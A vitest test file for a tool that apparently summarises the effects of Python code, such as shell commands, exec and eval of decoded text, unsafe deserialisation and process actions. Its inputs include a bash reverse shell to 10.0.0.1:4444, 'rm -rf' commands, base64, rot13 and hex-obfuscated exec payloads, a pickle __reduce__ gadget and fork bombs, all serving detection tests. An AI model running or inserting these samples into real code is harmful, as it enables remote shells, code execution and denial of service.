import { describe, expect, test } from 'vitest'
import { summary } from '../harness.ts'

/** What Python programs run: commands, shells, code from text, modules by name. */

describe('commands', () => {
  for (const [code, expected] of [
    [`import os; os.system('ls -la')`, ['$ ls -la']],
    [`import os; os.popen('id').read()`, ['$ id']],
    [`import os; os.system(f'rm -rf {d}')`, ['$ rm -rf $UNKNOWN_VALUE', 'opaque part of the command that `os.system` runs is not known']],
    [`import os; os.system('rm -rf ' + d)`, ['$ rm -rf $UNKNOWN_VALUE', 'opaque part of the command that `os.system` runs is not known']],
    [`import os; os.system('ping %s' % host)`, ['$ ping $UNKNOWN_VALUE', 'opaque part of the command that `os.system` runs is not known']],
    ['import os; os.system(cmd)', ['execute code:dynamic', 'opaque `os.system` runs a command that is not known before it runs']],
    [`import subprocess; subprocess.run(['git', 'push', '--force'])`, ['> git push --force']],
    [`import subprocess; subprocess.run('ls -la', shell=True)`, ['$ ls -la']],
    [`import subprocess; subprocess.run(['ls -la'], shell=True)`, ['$ ls -la']],
    [`import subprocess; subprocess.run(['ls', *args])`, ['> ls ?']],
    [`import subprocess; subprocess.run(args=['ls'], check=True, capture_output=True)`, ['> ls']],
    [`import subprocess as sp; sp.check_output(['id']).decode()`, ['> id']],
    [`from subprocess import run, PIPE; run('id', shell=True, stdout=PIPE)`, ['$ id']],
    [`from subprocess import Popen; p = Popen(['bash'], stdin=-1); p.communicate(b'id')`, ['$ id', '> bash']],
    [`import subprocess; subprocess.call(['sh', '-c', 'id'])`, ['> sh -c id']],
    [`import subprocess; subprocess.getoutput('id')`, ['$ id']],
    [`import subprocess; subprocess.run(['sh'], input='rm -rf /srv', text=True)`, ['> sh']],
    [`import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])`, ['> python3 -m pip install x']],
    [`import subprocess, shlex; subprocess.run(shlex.split('git gc --prune=now'))`, ['> git gc --prune=now']],
    [
      `import subprocess, shlex; subprocess.run('ls ' + shlex.quote(x), shell=True)`,
      ['$ ls $UNKNOWN_VALUE', 'opaque part of the command that `subprocess.run` runs is not known'],
    ],
    [`import subprocess; cmd = ['git']; cmd.append('gc'); subprocess.run(cmd)`, ['> git gc']],
    [`import subprocess; cmd = ['git'] + ['gc']; subprocess.run(cmd)`, ['> git gc']],
    [`import subprocess; cmd = ['git']; cmd += ['gc']; subprocess.run(cmd)`, ['> git gc']],
    [`import subprocess; cmd = ['git']; cmd.extend(['gc', '-q']); subprocess.run(cmd)`, ['> git gc -q']],
    [`import subprocess; subprocess.run('git gc'.split())`, ['> git gc']],
    [
      `import subprocess
for c in (['a'], ['b', 'c']): subprocess.run(c)`,
      ['> a', '> b c'],
    ],
    [
      `import subprocess
def sh(c): return subprocess.run(c, shell=True)
sh('id'); sh('ls')`,
      ['$ id', '$ ls'],
    ],
    [`import os; os.execv('/bin/sh', ['sh', '-c', 'id'])`, ['> /bin/sh -c id']],
    [`import os; os.execlp('vim', 'vim', 'a')`, ['> vim a']],
    [`import os; os.spawnl(os.P_WAIT, '/bin/ls', 'ls', '-l')`, ['> /bin/ls -l']],
    [`import os; os.posix_spawn('/bin/ls', ['ls', '-l'], {})`, ['> /bin/ls -l']],
    [`import pty; pty.spawn('/bin/bash')`, ['$ /bin/bash']],
    [`import asyncio; asyncio.create_subprocess_shell('id')`, ['$ id']],
    [
      `import asyncio
async def f(): await asyncio.create_subprocess_exec('git', 'gc')
asyncio.run(f())`,
      ['> git gc'],
    ],
    [`import commands; commands.getoutput('id')`, ['$ id']],
    [`import threading, os; threading.Thread(target=os.system, args=('id',)).start()`, ['$ id']],
    [`from concurrent.futures import ThreadPoolExecutor as T; import os; T().submit(os.system, 'id')`, ['$ id']],
    [`from multiprocessing import Pool; import os; Pool(2).map(os.system, ['id', 'ls'])`, ['$ id', '$ ls']],
    [`import functools, os; functools.partial(os.system, 'id')()`, ['$ id']],
    [`import os; list(map(os.system, ['id', 'ls']))`, ['$ id', '$ ls']],
    [`import os; getattr(os, 'system')('id')`, ['$ id']],
    [`import os; getattr(os, 'sys' + 'tem')('id')`, ['$ id']],
    [`__import__('os').system('id')`, ['$ id']],
    [`__import__('subprocess').Popen(['id'])`, ['> id']],
    [`__builtins__.__import__('os').system('id')`, ['$ id']],
    [`import builtins; builtins.__import__('os').system('id')`, ['$ id']],
    [`globals()['__builtins__'].__import__('os').system('id')`, ['$ id']],
    [`import os; eval('os.system')('id')`, ['$ id']],
    [`import atexit, os; atexit.register(os.system, 'id')`, ['$ id']],
    [`import signal, os; signal.signal(signal.SIGTERM, lambda *a: os.system('sig'))`, ['$ sig']],
    [`import os; print(f"{os.system('inside')}")`, ['$ inside']],
    [`import os; x = [os.system('list')]; y = {os.system('set')}; z = {1: os.system('dict')}`, ['$ dict', '$ list', '$ set']],
    [`import os; x = os.system('a') or os.system('b') and not os.system('c')`, ['$ a', '$ b', '$ c']],
    [`import os; assert os.system('assert') == 0, os.system('message')`, ['$ assert', '$ message']],
    [`import os; raise Exception(os.system('raise'))`, ['$ raise']],
    [`import os; del x[os.system('del')]`, ['$ del']],
    [`import os; lambda: os.system('lambda')`, ['$ lambda']],
    [
      `import os
class A(B, metaclass=C):
    x = os.system('class')
    def m(self): return os.system('method')`,
      ['$ class', '$ method'],
    ],
    [
      `import os
@os.system('deco')
def f(): pass`,
      ['$ deco'],
    ],
    [
      `import os
def f(x=os.system('default')): yield os.system('gen')`,
      ['$ default', '$ gen'],
    ],
    [
      `import os
with ctx(os.system('with')) as c: pass`,
      ['$ with'],
    ],
    [
      `import os
for _ in range(os.system('range')): pass`,
      ['$ range'],
    ],
    [
      `import os
while os.system('cond'): pass`,
      ['$ cond'],
    ],
    [
      `import subprocess; subprocess.Popen('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', shell=True, executable='/bin/bash')`,
      ['$ bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ],
    [`import pip; pip.main(['install', 'x'])`, ['> pip install x']],
    [`import runpy; runpy.run_path('x.py')`, ['script python:x.py']],
    [`import runpy; runpy.run_module('http.server')`, ['> python3 -m http.server']],
    [`import fabric; fabric.Connection('host.example').run('reboot')`, ['send net:remote-login host.example', 'send net:remote-shell']],
  ] as const)
    test(code, () => expect(summary('python', code)).toEqual(expected))
})

describe('code from text', () => {
  for (const [code, expected] of [
    [`eval('1 + 1')`, ['python:1 + 1']],
    [`exec('import os; os.system("id")')`, ['$ id', 'python:import os; os.system("id")']],
    ['exec(code)', ['execute code:dynamic', 'opaque `exec` runs code that is not known before it runs']],
    ['eval(input())', ['python:<stdin>']],
    [`exec(open('x.py').read())`, ['read x.py', 'script python:x.py']],
    [`exec(compile('import os; os.remove("a")', 'x', 'exec'))`, ['delete a', 'python:import os; os.remove("a")']],
    [`exec(compile(open('x.py').read(), 'x.py', 'exec'))`, ['read x.py', 'script python:x.py']],
    [`eval("__import__('os').system('id')")`, ['$ id', `python:__import__('os').system('id')`]],
    [
      `import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))`,
      ['$ id', 'execute code:decoded import os; os.system("id")', 'python:import os; os.system("id")'],
    ],
    [
      `import base64; exec(base64.b64decode(b'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=').decode())`,
      ['$ id', 'execute code:decoded import os; os.system("id")', 'python:import os; os.system("id")'],
    ],
    [
      `import zlib, base64; exec(zlib.decompress(base64.b64decode('eJw=')))`,
      ['execute code:decoded', 'opaque `exec` runs code that is not known before it runs'],
    ],
    [
      `import codecs; exec(codecs.decode('vzcbeg bf; bf.flfgrz("vq")', 'rot13'))`,
      ['$ id', 'execute code:decoded import os; os.system("id")', 'python:import os; os.system("id")'],
    ],
    [
      `exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2822696422 29'.replace(' ', '')))`,
      ['$ id', 'execute code:decoded import os; os.system("id")', 'python:import os; os.system("id")'],
    ],
    [`exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))`, ['execute code:decoded import os', 'python:import os']],
    [`exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))`, ['execute code:decoded import os', 'python:import os']],
    [
      `exec(')"a"(evomer.so;so tropmi'[::-1])`,
      ['delete a', 'execute code:decoded import os;os.remove("a")', 'python:import os;os.remove("a")'],
    ],
    [`exec('im' + 'port os' + '; os.remove("a")')`, ['delete a', 'python:import os; os.remove("a")']],
    [
      'import marshal, types; exec(marshal.loads(data))',
      ['execute code:decoded', 'opaque `exec` runs code that is not known before it runs'],
    ],
    [
      'import types; types.FunctionType(code, globals())()',
      ['execute code:dynamic', 'opaque `types.FunctionType` runs code that is not known before it runs'],
    ],
    ['import pickle; pickle.loads(data)', ['execute code:dynamic pickle.loads']],
    [`import pickle; pickle.load(open('x.pkl', 'rb'))`, ['execute code:deserialize pickle.load', 'read x.pkl']],
    [
      `import pickle
class E:
    def __reduce__(self):
        import os
        return (os.system, ('id',))
pickle.dumps(E())`,
      ['$ id'],
    ],
    ['import yaml; yaml.load(s)', ['execute code:dynamic yaml.load']],
    ['import yaml; yaml.unsafe_load(s)', ['execute code:dynamic yaml.unsafe_load']],
    ['import dill, joblib; dill.loads(x)', ['execute code:dynamic dill.loads']],
    [`import joblib; joblib.load('model.joblib')`, ['execute code:deserialize joblib.load', 'read model.joblib']],
    [`import pandas as pd; pd.read_pickle('/tmp/x.pkl')`, ['execute code:dynamic pandas.read_pickle', 'read /tmp/x.pkl']],
    [`import pickle; pickle.load(open('/tmp/x.pkl', 'rb'))`, ['execute code:dynamic pickle.load', 'read /tmp/x.pkl']],
    [`import timeit; timeit.timeit('import os; os.remove("a")')`, ['delete a', 'python:import os; os.remove("a")']],
    [`import ctypes; ctypes.CDLL('libc.so.6').system(b'id')`, ['$ id', 'execute code:native libc.so.6']],
    ['import ctypes; ctypes.CDLL(None)', ['execute code:native']],
    [`import code; code.InteractiveInterpreter().runsource('import os; os.remove("a")')`, ['delete a', 'python:import os; os.remove("a")']],
    [`import importlib.util; s = importlib.util.spec_from_file_location('m', '/tmp/m.py')`, ['script python:/tmp/m.py']],
    ['import sys; exec(sys.stdin.read())', ['python:<stdin>']],
    ['import sys; exec(sys.argv[1])', ['execute code:dynamic', 'opaque `exec` runs code that is not known before it runs']],
    [`setattr(x, 'y', eval('2'))`, ['python:2']],
  ] as const)
    test(code, () => expect(summary('python', code)).toEqual(expected))
})

describe('processes', () => {
  for (const [code, expected] of [
    ['import os; os.kill(1234, 9)', ['change proc:kill 1234']],
    ['import os, signal; os.kill(pid, signal.SIGKILL)', ['change proc:kill']],
    ['import os; os.kill(1, 9)', ['change proc:kill 1']],
    ['import os; os.kill(-1, 9)', ['change proc:kill -1']],
    ['import os, signal; os.killpg(os.getpgid(p.pid), signal.SIGTERM)', ['change proc:kill']],
    [
      `import psutil
for p in psutil.process_iter(): p.kill()`,
      ['change proc:kill'],
    ],
    ['import psutil; psutil.Process(12).terminate()', ['change proc:kill 12']],
    [
      `import os
while True: os.fork()`,
      ['execute proc:fork-bomb fork'],
    ],
    [
      `import os
while 1:
    os.fork()`,
      ['execute proc:fork-bomb fork'],
    ],
    [
      `import os
def f():
    os.fork()
    f()
f()`,
      ['execute proc:fork-bomb fork'],
    ],
    ['import os; os.setuid(0)', ['change privilege:switch root']],
    [`import os; os.chroot('/jail')`, ['change privilege:root /jail']],
    [
      `x = []
while True: x.append('a' * 10**6)`,
      ['execute resource:exhaust memory'],
    ],
    [
      `s = 'x'
while True: s += s`,
      ['execute resource:exhaust memory'],
    ],
  ] as const)
    test(code, () => expect(summary('python', code)).toEqual(expected))
})
